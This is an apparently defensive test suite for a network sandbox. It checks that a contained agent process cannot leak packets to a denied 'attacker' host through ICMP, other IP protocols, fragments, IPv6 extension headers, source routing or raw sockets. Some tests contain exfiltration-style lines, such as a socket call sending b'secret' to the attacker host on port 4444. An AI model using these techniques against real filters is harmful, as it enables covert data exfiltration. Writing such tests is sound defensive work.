/**
 * Packets that carry something past a filter of connections: other protocols, fragments, options, and datagrams that go on. Ordinary
 * sockets belong to the contained process; frames made by hand come from a hostile agent.
 */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { Lab } from '@cofferdam/testkit/lab';
import { type Attacker, type ContainedAttacker, containedAttacker } from './attacker.ts';
import { containedUnavailable } from './contained.ts';
import {
  agentHost,
  attackerHost,
  echoHost,
  echoPolicy,
  families,
  narrow,
  type PacketSite,
  packetsBy,
  reasonsOf,
  runMacs,
  startPacketSite,
  textOf,
} from './packet-site.ts';

describe('packets', { skip: containedUnavailable(), timeout: 150_000 }, () => {
  let lab: Lab;
  let free: Attacker;
  let server: Attacker;
  let onWire: PacketSite['onWire'];
  before(async () => {
    ({ lab, free, server, onWire } = await startPacketSite());
  });
  after(() => lab?.stop());

  describe('under a policy that permits one host', () => {
    let agent: ContainedAttacker;
    let raw: Attacker;
    before(async () => {
      agent = await containedAttacker(lab, { policy: narrow, user: 61_234 });
      raw = await agent.rawAttacker();
      await packetsBy(raw, runMacs, agentHost);
    });
    after(() => agent?.stop());

    for (const family of families) {
      const ping = `result = ping(args['family'], args['to'])`;
      const filter = `icmp${family === 4 ? '' : '6'} and dst host ${attackerHost[family]}`;

      test(`data in pings to a denied host, over IPv${family}`, async () => {
        assert.equal(await free.run<number>(ping, { family, to: attackerHost[family] }), 128, 'control');
        const before = (await onWire(filter)).length;
        assert.ok(before > 0, 'control');
        assert.equal(await agent.run<number>(ping, { family, to: echoHost[family] }), 128, 'a permitted host answers');
        const denied = await agent.attempt(ping, { family, to: attackerHost[family] });
        assert.ok('error' in denied);
        // As root too, and in every type of message that ICMP has.
        await raw.run(`icmp_types(args['family'], args['to'])`, { family, to: attackerHost[family] });
        assert.equal((await onWire(filter)).length, before, 'not one more');
        const reasons = await reasonsOf(
          agent,
          (r) => r.kind === 'flow' && r.protocol === 'icmp' && r.source.address.family === family,
        );
        assert.ok(reasons.includes('no-rule'), reasons.join());
      });

      test(`messages other than echo to a permitted host, over IPv${family}`, async () => {
        const other = `icmp${family === 4 ? '' : '6'} and dst host ${echoHost[family]} and not (${family === 4 ? 'icmp[0] = 8' : 'ip6[40] = 128'})`;
        await raw.run(`icmp_types(args['family'], args['to'], but_echo=True)`, { family, to: echoHost[family] });
        assert.deepEqual(await onWire(other), []);
      });

      test(`datagrams and other protocols to a denied host, over IPv${family}`, async () => {
        const send = `result = ask(args['to'], args['port'])`;
        const since = await lab.mark();
        await free.attempt(send, { to: attackerHost[family], port: 4444 });
        assert.equal((await lab.arrivals({ since, server: 'attacker', kind: 'datagram' })).length, 1, 'control');
        assert.equal(await agent.run<number>(send, { to: echoHost[family], port: 7 }), 6, 'a permitted host answers');
        const again = await lab.mark();
        const told = await agent.attempt(send, { to: attackerHost[family], port: 4444 });
        assert.ok(
          'error' in told && told.number !== '' && told.number !== 'EAGAIN',
          `the client is told: ${JSON.stringify(told)}`,
        );
        await agent.attempt(send, { to: echoHost[family], port: 5000 });
        await agent.attempt(
          `s = socket.socket(socket.AF_INET6 if ':' in args['to'] else socket.AF_INET, socket.SOCK_DGRAM, 136); s.sendto(b'secret', (args['to'], 4444))`,
          { to: attackerHost[family] },
        );
        await raw.run(`other_protocols(args['family'], args['to'], args['echo'])`, {
          family,
          to: attackerHost[family],
          echo: echoHost[family],
        });
        assert.deepEqual(await lab.arrivals({ since: again, kind: 'datagram' }), []);
        assert.deepEqual(
          await onWire(
            `(${family === 4 ? 'ip' : 'ip6'}) and (dst host ${attackerHost[family]} or dst host ${echoHost[family]}) and not tcp and not udp and not icmp and not icmp6`,
          ),
          [],
        );
      });

      test(`fragments, over IPv${family}`, async () => {
        const send = (which: 'honest' | 'hostile') =>
          raw.run(`Fragments(args['family'], args['echo'], args['denied']).${which}()`, {
            family,
            echo: echoHost[family],
            denied: attackerHost[family],
          });
        const datagrams = async (since: number) =>
          (await lab.arrivals({ since, kind: 'datagram' })).map(
            (a) => `${a.server}:${a.local.port} ${a.kind === 'datagram' ? a.bytes.slice(0, 4) : ''}`,
          );
        let since = await lab.mark();
        await send('honest');
        assert.deepEqual(await datagrams(since), ['echo:7 good', 'echo:7 back'], 'honest ones pass, in either order');

        since = await lab.mark();
        await send('hostile');
        const got = await datagrams(since);
        assert.ok(
          got.every((text) => text === 'echo:7 good'),
          got.join(', '),
        );
        assert.deepEqual(await lab.arrivals({ since, kind: 'connection' }), []);
        assert.deepEqual(
          await onWire(
            `${family === 4 ? 'ip' : 'ip6'} and dst host ${attackerHost[family]} and greater 120 and not icmp and not icmp6 and not port 4444`,
          ),
          [],
        );
        const reasons = await reasonsOf(
          agent,
          (r) => r.kind === 'flow' && r.source.address.family === family && r.protocol !== 'icmp',
        );
        for (const reason of ['no-rule', 'fragment']) assert.ok(reasons.includes(reason), reasons.join());
      });
    }

    test('extension headers and IPv4 options', async () => {
      const since = await lab.mark();
      await raw.run(`extension_headers(args['to'], args['to'][1]); ipv4_options(args['echo4'], args['denied4'])`, {
        to: [echoHost[6], attackerHost[6]],
        denied4: attackerHost[4],
        echo4: echoHost[4],
      });
      assert.deepEqual(await lab.arrivals({ since, kind: 'datagram' }), []);
      assert.deepEqual(await reasonsOf(agent, (r) => textOf(r).includes('extension-header')), ['extension-header']);
      // A source route by an ordinary socket, which needs no privilege.
      const routed = await agent.attempt<number>(`result = source_route(args['to'], args['via'])`, {
        to: echoHost[4],
        via: attackerHost[4],
      });
      assert.ok('error' in routed);
      assert.deepEqual(await lab.arrivals({ since, kind: 'datagram' }), []);
    });

    test('raw sockets are not for the contained process', async () => {
      for (const kind of [
        'socket.AF_INET, socket.SOCK_RAW, 1',
        'socket.AF_INET6, socket.SOCK_RAW, 58',
        'socket.AF_PACKET, socket.SOCK_RAW, 3',
        'socket.AF_PACKET, socket.SOCK_DGRAM, 3',
      ]) {
        await free.run(`socket.socket(${kind}).close()`);
        const refused = await agent.attempt(`socket.socket(${kind})`);
        assert.ok(
          'error' in refused && ['EPERM', 'EACCES', 'EAFNOSUPPORT'].includes(refused.number),
          JSON.stringify(refused),
        );
      }
    });
  });

  test('a server that goes on sending datagrams after its flow is denied', async () => {
    const push = `
def push(address):
    s = socket.socket(family_of(address), socket.SOCK_DGRAM)
    s.bind((address, 9200))
    data, to = s.recvfrom(100)
    while True:
        try: s.sendto(b'push', to)
        except OSError: pass
        time.sleep(0.05)
threading.Thread(target=push, args=(args['address'],), daemon=True).start()
`;
    for (const family of families) {
      await server.run(push, { address: attackerHost[family] });
      const expires = new Date(Date.now() + 4000).toISOString();
      const agent = await containedAttacker(lab, {
        policy: echoPolicy(`to: [anywhere], protocol: udp, ports: [9200], expires: ${expires}`),
      });
      const began = await agent.run<number>(
        `
        s = socket.socket(family_of(args['to']), socket.SOCK_DGRAM)
        s.settimeout(1)
        s.connect((args['to'], 9200))
        s.send(b'hello')
        result = len([s.recv(10) for _ in range(5)])
        `,
        { to: attackerHost[family] },
      );
      assert.equal(began, 5, 'control: while it is permitted, it pushes');
      const rest = await agent.run<{ heard: number; quiet: boolean }>(
        `
        while time.time() * 1000 < args['expires'] + 1000:
            try: s.recv(10)
            except OSError: pass
        heard = 0
        s.settimeout(0.3)
        for _ in range(5):
            try: heard += len(s.recv(10)) > 0
            except OSError: pass
        result = {'heard': heard, 'quiet': heard == 0}
        `,
        { expires: Date.parse(expires) },
      );
      assert.deepEqual(rest, { heard: 0, quiet: true });
      assert.deepEqual(await reasonsOf(agent, (r) => r.kind === 'flow' && r.protocol === 'udp'), ['flow-cut']);
      await agent.stop();
    }
  });
});
